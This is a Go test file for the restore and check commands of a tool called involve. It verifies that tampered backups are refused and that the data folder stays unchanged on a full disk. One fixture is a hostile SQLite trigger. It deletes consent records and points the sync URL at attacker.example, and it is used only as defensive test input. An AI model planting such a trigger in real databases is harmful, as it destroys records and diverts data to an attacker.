//go:build unix

package cli

import (
	"bytes"
	"compress/gzip"
	"context"
	"database/sql"
	"fmt"
	"io"
	"os"
	"os/exec"
	"os/signal"
	"path/filepath"
	"strings"
	"syscall"
	"testing"

	"github.com/hin-south-london/involve/app/datadir"
	"github.com/hin-south-london/involve/app/involve"
	"github.com/hin-south-london/involve/app/store"
)

// TestMain lets a test run the command line in a child process (INVOLVE_CLI_CHILD=1,
// the command and its arguments after "--"), as `involve` runs it.
func TestMain(m *testing.M) {
	if os.Getenv("INVOLVE_CLI_CHILD") == "1" {
		// a file-size limit is a full disk: EFBIG, not the signal that would end the
		// process before it could say so
		signal.Ignore(syscall.SIGXFSZ)
		args := os.Args
		for i, a := range args {
			if a == "--" {
				args = args[i+1:]
				break
			}
		}
		os.Exit(runCommand(args[0], args[1:]))
	}
	os.Exit(m.Run())
}

// capture runs fn with stdout and stderr going to files, and returns what it wrote.
func capture(t *testing.T, fn func() int) (code int, stdout, stderr string) {
	t.Helper()
	outF, _ := os.CreateTemp(t.TempDir(), "out")
	errF, _ := os.CreateTemp(t.TempDir(), "err")
	oldOut, oldErr := os.Stdout, os.Stderr
	os.Stdout, os.Stderr = outF, errF
	code = fn()
	os.Stdout, os.Stderr = oldOut, oldErr
	o, _ := os.ReadFile(outF.Name())
	e, _ := os.ReadFile(errF.Name())
	outF.Close()
	errF.Close()
	return code, string(o), string(e)
}

// restoreFolder is a closed data folder with two sessions and a backup holding one.
func restoreFolder(t *testing.T) (dir, dbPath, backup string) {
	t.Helper()
	ctx := context.Background()
	dir = t.TempDir()
	dbPath = filepath.Join(dir, datadir.DBName)
	db, err := store.Open(ctx, dbPath, store.Options{})
	if err != nil {
		t.Fatal(err)
	}
	db.CreateSession(ctx, involve.SessionInput{Title: "In the backup", Date: "2026-11-24", Type: "workshop"})
	b, err := db.Backup(ctx, "manual")
	if err != nil {
		t.Fatal(err)
	}
	db.CreateSession(ctx, involve.SessionInput{Title: "After the backup", Date: "2026-11-24", Type: "workshop"})
	db.Close()
	return dir, dbPath, b.Path
}

// gunzipTo expands the compressed backup src into dst.
func gunzipTo(t *testing.T, src, dst string) string {
	t.Helper()
	in, err := os.Open(src)
	if err != nil {
		t.Fatal(err)
	}
	defer in.Close()
	zr, err := gzip.NewReader(in)
	if err != nil {
		t.Fatal(err)
	}
	b, err := io.ReadAll(zr)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(dst, b, 0o600); err != nil {
		t.Fatal(err)
	}
	return dst
}

func sqlExec(t *testing.T, path, stmt string) {
	t.Helper()
	d, err := sql.Open("sqlite3", "file:"+path)
	if err != nil {
		t.Fatal(err)
	}
	defer d.Close()
	if _, err := d.Exec(stmt); err != nil {
		t.Fatal(err)
	}
}

func folderFiles(t *testing.T, dir string) string {
	t.Helper()
	entries, _ := os.ReadDir(dir)
	var b strings.Builder
	for _, e := range entries {
		if e.IsDir() || e.Name() == datadir.LockName { // the lock the command takes
			continue
		}
		data, _ := os.ReadFile(filepath.Join(dir, e.Name()))
		fmt.Fprintf(&b, "%s %x\n", e.Name(), data)
	}
	return b.String()
}

func TestRestoreCommand(t *testing.T) {
	const trigger = `CREATE TRIGGER wipe_consent AFTER INSERT ON docs BEGIN
		DELETE FROM docs WHERE entity = 'consent';
		UPDATE meta SET value = 'https://attacker.example' WHERE key = 'sync_url'; END`

	t.Run("PrintsWhereTheReplacedDatabaseIsKept", func(t *testing.T) {
		dir, _, backup := restoreFolder(t)
		code, out, errOut := capture(t, func() int { return runCommand("restore", []string{"--data-dir", dir, backup}) })
		if code != 0 {
			t.Fatalf("exit %d: %s", code, errOut)
		}
		_, kept, ok := strings.Cut(out, "the previous database was kept as ")
		kept = strings.TrimSpace(kept)
		if !ok || !strings.HasPrefix(filepath.Base(kept), "involve-replaced-") {
			t.Fatalf("output %q", out)
		}
		if _, err := os.Stat(kept); err != nil {
			t.Fatalf("the kept file: %v", err)
		}
	})
	t.Run("RefusesABackupWithATrigger", func(t *testing.T) {
		dir, _, backup := restoreFolder(t)
		backup = gunzipTo(t, backup, filepath.Join(t.TempDir(), "tampered.db")) // backups are compressed
		sqlExec(t, backup, trigger)
		before := folderFiles(t, dir)
		code, _, errOut := capture(t, func() int { return runCommand("restore", []string{"--data-dir", dir, backup}) })
		if code != 1 || !strings.Contains(errOut, "trigger wipe_consent") || !strings.Contains(errOut, "Nothing was changed") {
			t.Fatalf("exit %d: %s", code, errOut)
		}
		if folderFiles(t, dir) != before {
			t.Fatal("the data folder changed")
		}
	})
	t.Run("CheckReportsATrigger", func(t *testing.T) {
		dir, dbPath, _ := restoreFolder(t)
		sqlExec(t, dbPath, trigger)
		code, _, errOut := capture(t, func() int { return runCommand("check", []string{"--data-dir", dir}) })
		if code != 1 || !strings.Contains(errOut, "trigger wipe_consent") {
			t.Fatalf("exit %d: %s", code, errOut)
		}
	})
	t.Run("FullDiskInAChildChangesNothing", func(t *testing.T) {
		dir, _, backup := restoreFolder(t)
		before := folderFiles(t, dir)
		st, _ := os.Stat(backup)
		// ulimit -f counts 512-byte blocks: the copy of the backup cannot finish
		limit := st.Size() / 512 / 2
		cmd := exec.Command("/bin/sh", "-c", fmt.Sprintf(`ulimit -f %d && exec "$0" "$@"`, limit),
			os.Args[0], "-test.run=^$", "--", "restore", "--data-dir", dir, backup)
		cmd.Env = append(os.Environ(), "INVOLVE_CLI_CHILD=1")
		var errOut bytes.Buffer
		cmd.Stdout, cmd.Stderr = io.Discard, &errOut
		err := cmd.Run()
		if ee, ok := err.(*exec.ExitError); !ok || ee.ExitCode() != 1 {
			t.Fatalf("child: %v: %s", err, errOut.String())
		}
		if !strings.Contains(errOut.String(), "file too large") || !strings.Contains(errOut.String(), "Nothing was changed") {
			t.Fatalf("child said %q", errOut.String())
		}
		if folderFiles(t, dir) != before {
			t.Fatal("the data folder changed")
		}
	})
}
